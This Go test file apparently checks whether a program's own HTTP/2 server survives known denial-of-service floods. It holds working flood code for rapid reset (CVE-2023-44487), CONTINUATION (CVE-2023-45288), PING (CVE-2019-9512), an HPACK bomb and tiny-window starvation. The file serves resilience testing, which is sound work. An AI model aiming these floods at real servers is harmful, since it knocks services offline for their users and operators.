package hostile

import (
	"bytes"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// frames is a connection of HTTP/2 whose client sends what frames it likes.
type frames struct {
	net.Conn
	*http2.Framer
	block   bytes.Buffer
	encoder *hpack.Encoder
}

// connect begins HTTP/2 with these settings.
func (a *attacked) connect(settings ...http2.Setting) (*frames, error) {
	// the certificate is this test's own
	c, err := tls.Dial("tcp", a.Address, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}})
	if err != nil {
		return nil, err
	}
	_ = c.SetDeadline(time.Now().Add(patience))
	w := &frames{Conn: c, Framer: http2.NewFramer(c, c)}
	w.AllowIllegalWrites = true
	w.encoder = hpack.NewEncoder(&w.block)
	if _, err = io.WriteString(c, http2.ClientPreface); err == nil {
		err = w.WriteSettings(settings...)
	}
	if err != nil {
		_ = c.Close()
		return nil, err
	}
	return w, nil
}

// takes reads all that the program sends, and drops it.
func (w *frames) takes() {
	go func() { _, _ = io.Copy(io.Discard, w.Conn) }()
}

// header encodes a request's header.
func (w *frames) header(token, path string, more ...string) []byte {
	w.block.Reset()
	fields := []string{":method", "GET", ":scheme", "https", ":authority", "localhost", ":path", path, "authorization",
		"Bearer " + token}
	fields = append(fields, more...)
	for i := 0; i < len(fields); i += 2 {
		_ = w.encoder.WriteField(hpack.HeaderField{Name: fields[i], Value: fields[i+1]}) // a buffer takes all
	}
	return w.block.Bytes()
}

// flood is what is sent again and again on a connection; stream is odd and new each time.
type flood struct {
	name     string
	settings []http2.Setting
	takes    bool // the client reads what comes
	send     func(a *attacked, w *frames, stream uint32) error
}

// floods are those of known attacks, and of limits that a server may lack.
var floods = []flood{
	{"rapid reset (CVE-2023-44487)", nil, true, func(a *attacked, w *frames, stream uint32) error {
		if err := w.WriteHeaders(http2.HeadersFrameParam{StreamID: stream,
			BlockFragment: w.header(a.attacker, "/lines?limit=50"), EndStream: true, EndHeaders: true}); err != nil {
			return err
		}
		return w.WriteRSTStream(stream, http2.ErrCodeCancel)
	}},
	{"CONTINUATION without end (CVE-2023-45288)", nil, true, func(a *attacked, w *frames, stream uint32) error {
		if stream == 1 {
			return w.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: w.header(a.attacker, "/lines"),
				EndStream: true})
		}
		return w.WriteContinuation(1, false, w.header(a.attacker, "/lines", fmt.Sprint("x-", stream), "y"))
	}},
	{"PING (CVE-2019-9512)", nil, false, func(_ *attacked, w *frames, stream uint32) error {
		return w.WritePing(false, [8]byte{byte(stream)})
	}},
	{"a header that unpacks to much (HPACK bomb)", nil, true, func(a *attacked, w *frames, stream uint32) error {
		long := string(bytes.Repeat([]byte("b"), 3000))
		fields := make([]string, 0, 400)
		for range 200 {
			fields = append(fields, "x-bomb", long) // after the first one byte each
		}
		return w.WriteHeaders(http2.HeadersFrameParam{StreamID: stream,
			BlockFragment: w.header(a.attacker, "/lines", fields...), EndStream: true, EndHeaders: true})
	}},
	{"tiny windows", []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 1}}, true,
		func(a *attacked, w *frames, stream uint32) error {
			if stream < 200 {
				return w.WriteHeaders(http2.HeadersFrameParam{StreamID: stream,
					BlockFragment: w.header(a.attacker, "/openapi.json"),
					EndStream:     true, EndHeaders: true})
			}
			time.Sleep(time.Millisecond)
			return w.WriteWindowUpdate(1+2*(stream%100), 1)
		}},
}

// TestHTTP2Floods sends each on some connections at a time for a while. What the program closes is opened again.
func TestHTTP2Floods(t *testing.T) {
	long := campaign(t, 3*time.Second, 20*time.Second)
	for _, f := range floods {
		t.Run(f.name, func(t *testing.T) {
			a := attack(t, true, nil)
			var sent, closed atomic.Int64
			a.suffers(t, func() {
				var all sync.WaitGroup
				until := time.Now().Add(long)
				for range 4 {
					all.Go(func() {
						for time.Now().Before(until) {
							w, err := a.connect(f.settings...)
							if err != nil {
								time.Sleep(100 * time.Millisecond)
								continue
							}
							_ = w.SetDeadline(until)
							if f.takes {
								w.takes()
							}
							for stream := uint32(1); time.Now().Before(until) && stream < 1<<30; stream += 2 {
								if err := f.send(a, w, stream); err != nil {
									closed.Add(1)
									break
								}
								sent.Add(1)
							}
							_ = w.Close()
						}
					})
				}
				all.Wait()
			})
			t.Logf("%d sent on 4 connections in %s, %d of which the program closed", sent.Load(), long, closed.Load())
			a.Nobody() // it is there:
			if err := a.Stop(); err != nil {
				t.Errorf("the program ended with %v:\n%s", err, a.Log())
			}
		})
	}
}
